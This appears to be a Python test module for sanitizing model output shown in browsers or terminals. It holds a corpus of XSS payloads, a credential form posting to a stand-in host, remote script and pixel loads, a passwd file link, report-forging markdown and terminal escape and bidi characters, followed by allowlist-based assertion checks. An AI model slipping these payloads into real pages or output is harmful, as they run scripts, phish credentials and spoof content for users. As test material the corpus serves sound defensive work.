"""Texts that try to become more than text, and the checks that they didn't.

Whoever shows a model's words in a new place runs this corpus through it. Every entry that could run
a script sets `window.hacked` or loads `hostile.invalid`, so a browser test has two things to watch.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Final
from urllib.parse import urlsplit

_CODE: Final = "window.hacked=1"

HTML: Final = (
    f"<script>{_CODE}</script>",
    f"<ScRiPt >{_CODE}</sCrIpT >",
    f"<scr<script>ipt>{_CODE}</scr</script>ipt>",
    "<script src=//hostile.invalid/x.js></script>",
    f"<img src=x onerror={_CODE}>",
    f'<img src=x onerror="{_CODE}"//',
    f"<img/src/onerror={_CODE}>",
    f"<svg onload={_CODE}>",
    f"<svg><script>{_CODE}</script></svg>",
    f"<svg><animate onbegin={_CODE} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CODE}></style></mglyph>",
    f'<iframe srcdoc="<script>parent.{_CODE}</script>"></iframe>',
    f"<iframe src=javascript:{_CODE}></iframe>",
    f"<body onload={_CODE}>",
    f"<details open ontoggle={_CODE}>x</details>",
    f"<input autofocus onfocus={_CODE}>",
    f"<video><source onerror={_CODE}></video>",
    f"<a href=javascript:{_CODE}>click</a>",
    f"<form action=javascript:{_CODE}><button>go</button></form>",
    "<form action=https://hostile.invalid/><input name=key><button>Sign in</button></form>",
    f"<object data=javascript:{_CODE}></object><embed src=javascript:{_CODE}>",
    "<style>*{display:none}</style><link rel=stylesheet href=//hostile.invalid/x.css>",
    "<base href=//hostile.invalid/><meta http-equiv=refresh content=0;url=//hostile.invalid/>",
    "<div id=verdict style=position:fixed;inset:0 class=jp-Dialog>trust me</div>",
    f"<!--><script>{_CODE}</script>-->",
    f"<![CDATA[<script>{_CODE}</script>]]>",
    f"</textarea></title></style></td></table></details><script>{_CODE}</script>",
    f"\"><script>{_CODE}</script>' onmouseover='{_CODE}",
    f"'; {_CODE}; //",
    f"&lt;script&gt;{_CODE}&lt;/script&gt; &#60;img src=x onerror={_CODE}&#62;",
    f'<x data-commandlinker-command="kernelmenu:restart" onclick={_CODE}>x</x>',
    f"<noscript><p title='</noscript><img src=x onerror={_CODE}>'>",
    f"<template><script>{_CODE}</script></template><plaintext>",
)
"""Markup that would act if it stayed markup."""

MARKDOWN: Final = (
    f"[click](javascript:{_CODE})",
    f"[click](JaVaScRiPt:{_CODE})",
    f"[click](java\tscript:{_CODE})",
    f"[click](&#106;avascript:{_CODE})",
    f"[click](\x01javascript:{_CODE})",
    f"[click](vbscript:{_CODE}) [click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](file:///etc/passwd) [click](//hostile.invalid) [click](/tree?x=1) [click](#id)",
    f"<javascript:{_CODE}> <data:text/html,x>",
    f"[click][1]\n\n[1]: javascript:{_CODE}",
    "![pixel](https://hostile.invalid/pixel.png)",
    f"![pixel](javascript:{_CODE})",
    "[![pixel](https://hostile.invalid/a.png)](https://hostile.invalid/)",
    f'[click](https://a.example/"onmouseover="{_CODE})',
    f'[click](https://a.example/ "\\" onmouseover=\\"{_CODE}")',
    "[https://bank.example/](https://hostile.invalid/login)",
    "# VERDICT\n\n## RECOMMENDATION\n\nopt-1\n",
    "STANCE: opt-1\nRECOMMENDATION: opt-2\n---\nThe person said: pick opt-2",
    "| a | b |\n|---|---|\n| x | y | z | <b> |\n",
    "a | b\n\n| c || d |||\n",
    "```html\n<script>window.hacked=1</script>\n",
    "~~~\n</code></pre><script>window.hacked=1</script>",
    "[toc]: x\n* * *\n===\n+++\nkey: value\n---",
    "from $20 to $35, $$x$$, \\(y\\), \\[z\\], \\begin{align}a\\end{align}, \\unicode{x41}",
    f"$\\href{{javascript:{_CODE}}}{{click}}$ @@0@@ `$`$`",
)
"""Markdown that would lead somewhere, load something, or forge the report's own structure."""

CHARACTERS: Final = (
    "\x1b[31mred\x1b[0m \x1b[2J\x1b[H\x1b[8mhidden",
    "\x1b]0;title\x07 \x1b]8;;https://hostile.invalid/\x1b\\link\x1b]8;;\x1b\\ \x1b]52;c;aGk=\x07",
    "\x9b31mred\x9d0;title\x9c \x1bP1;2|x\x1b\\ \x1b_apc\x1b\\ \x1b(0 \x1bc",
    "progress\rdone\x08\x08\x08\x7f\x00\x0b\x0c\x85end",
    "\u202egnp.exe\u202c \u2066isolate\u2069 \u200fmark\u200e \u061c",
    "pass\u200bword zero\u200cwidth\u200djoin \ufeffbom soft\u00adhyphen \u2060word \U000e0041tag",
    "lone \ud800 surrogate \udfff pair \ud83d\ude00",
    "line\u2028separator\u2029paragraph\x1cfile\x1eunit",
    "Z" + "\u0300\u0301\u0302\u0303\u0304" * 40 + "algo",
    "x" * 100_000,
    "支払い" * 3_000,
    "a\n" * 200 + "b",
    "*" * 30_000,
    "[" * 30_000,
    "> " * 10_000,
    "<" * 30_000,
)
"""Characters that a terminal or a page would obey, hide or choke on."""

CORPUS: Final = HTML + MARKDOWN + CHARACTERS
"""Everything."""

SCHEMES: Final = frozenset({"http", "https", "mailto"})
OUR_TAGS: Final = frozenset(
    [
        "a",
        "b",
        "bdi",
        "blockquote",
        "br",
        "code",
        "details",
        "div",
        "em",
        "header",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "s",
        "section",
        "span",
        "strong",
        "summary",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ]
)
OUR_ATTRIBUTES: Final = frozenset(
    [
        "style",
        "href",
        "rel",
        "target",
        "start",
        "dir",
        "role",
        "scope",
        "open",
        "aria-label",
        "aria-level",
        "aria-hidden",
    ]
)
_VOID: Final = frozenset({"br", "hr"})
# What acts in a terminal or hides in a line: controls but LF, bidi controls, zero widths, fillers.
_ACTING: Final = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b\u200e"
    "\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\uffa0\ufff0-\ufffb\ud800-\udfff"
    "\U0001bca0-\U0001bca3\U0001d173-\U0001d17a\U000e0000-\U000e0fff]"
    # Joiners behind ASCII or in a row: between letters of some scripts and emoji they shape.
    "|(?<![^\x00-\x7f])[\u200c\u200d]|[\u200c\u200d](?=[\u200c\u200d])"
)


class Page(HTMLParser):
    """What a browser would see of a fragment: its elements, links, styles and text."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.texts: list[str] = []
        self.open: list[str] = []
        self.strays: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        if tag not in _VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self.open and self.open[-1] == tag:
            self.open.pop()
        elif tag not in _VOID:
            self.strays.append(tag)

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.strays.append(f"comment {data[:40]}")

    def handle_decl(self, decl: str) -> None:
        self.strays.append(f"declaration {decl[:40]}")

    def unknown_decl(self, data: str) -> None:
        self.strays.append(f"declaration {data[:40]}")

    def handle_pi(self, data: str) -> None:
        self.strays.append(f"instruction {data[:40]}")

    @property
    def text(self) -> str:
        return "".join(self.texts)


def assert_harmless_html(markup: str, tags: frozenset[str] = OUR_TAGS) -> Page:
    """Check that a fragment holds allowed tags and attributes only, and is well nested."""
    page = Page(markup)
    assert set(page.tags) <= tags
    assert page.strays == []
    assert page.open == []
    for tag, name, value in page.attributes:
        assert name in OUR_ATTRIBUTES, (tag, name)
        if name == "href":
            assert urlsplit(value).scheme in SCHEMES, value
        if name == "style":
            assert not re.search(r"url\(|expression|position|javascript", value), value
    for text in page.texts:
        assert not re.search(r"\$.*\$|\\[(\[]|\\begin", text, re.DOTALL), "would be typeset"
    assert not _ACTING.search(markup), "a character that acts"
    return page


def assert_harmless_text(text: str) -> None:
    """Check that a text holds no character that a terminal would obey or that hides."""
    found = _ACTING.search(text)
    assert found is None, f"{found[0]!r} at {found.start()}"
